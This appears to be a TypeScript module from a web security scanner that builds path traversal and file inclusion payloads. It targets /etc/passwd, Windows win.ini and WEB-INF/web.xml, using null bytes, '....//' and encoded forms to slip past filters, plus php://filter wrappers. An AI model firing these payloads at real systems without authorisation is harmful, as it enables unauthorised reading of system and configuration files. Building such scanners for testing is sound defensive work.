const up = '../'.repeat(10);

/** The last part of the usual value, to satisfy filters that look at its ending. */
const endingOf = (usual: string) => /(\.[a-z0-9]{1,5})$/i.exec(usual)?.[1] ?? '';

/** The folder in front of the usual value, to satisfy filters that look at its beginning. */
const folderOf = (usual: string) => /^(.{1,200}\/)[^/]*$/.exec(usual)?.[1] ?? '';

/** The one that finds most, for any input at all: a full path by itself, and a way up behind a folder. */
export const common: readonly string[] = [`/${up}etc/passwd`];

/** What a filter that takes '../' out once makes of it is '../'. */
const upOnceFiltered = '....//';

/**
 * The descriptor of a web application (Jakarta Servlet 6.0, §10.5), which refuses to go further up than its own
 * root: so as many folders up as the page at `url` is deep, one fewer where the first is the application's name,
 * and one more where the value is put behind a folder.
 */
function descriptors(url: string): string[] {
  const depth = new URL(url).pathname.split('/').length - 2;
  const steps = new Set([0, 1, 2, depth - 1, depth, depth + 1].filter((count) => count >= 0));
  const filtered = [depth - 1, depth].filter((count) => count > 0);
  const ways = [
    ...[...steps].map((count) => '../'.repeat(count)),
    ...filtered.map((count) => upOnceFiltered.repeat(count)),
  ];
  return ['/', ...ways].map((way) => `${way}WEB-INF/web.xml`);
}

/** Ways around filters, for inputs that look as if they named a file; the likeliest first. */
export function thorough(usual: string, url: string): string[] {
  const ending = endingOf(usual);
  const folder = folderOf(usual);
  const name = usual.replace(/\.[a-z0-9]{1,5}$/i, '').slice(0, 100) || 'index';
  return [
    `${up}etc/passwd`,
    '/etc/passwd',
    ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
    `${up}etc/passwd\0${ending}`,
    ...(ending === '' ? [] : [`/etc/passwd\0${ending}`]),
    ...[...new Set(['', folder])].map((start) => `${start}${upOnceFiltered.repeat(10)}etc/passwd`),
    'file:///etc/passwd',
    `${up.replaceAll('/', '%2f')}etc%2fpasswd`,
    `${'..%2f'.repeat(10)}etc%2fpasswd`.replaceAll('%', '%25'),
    `${up}windows/win.ini`,
    `${'..\\'.repeat(10)}windows\\win.ini`,
    'c:\\windows\\win.ini',
    'c:/windows/win.ini',
    ...descriptors(url),
    `php://filter/convert.base64-encode/resource=${name}`,
    `php://filter/convert.base64-encode/resource=${usual.slice(0, 100) || 'index.php'}`,
  ];
}
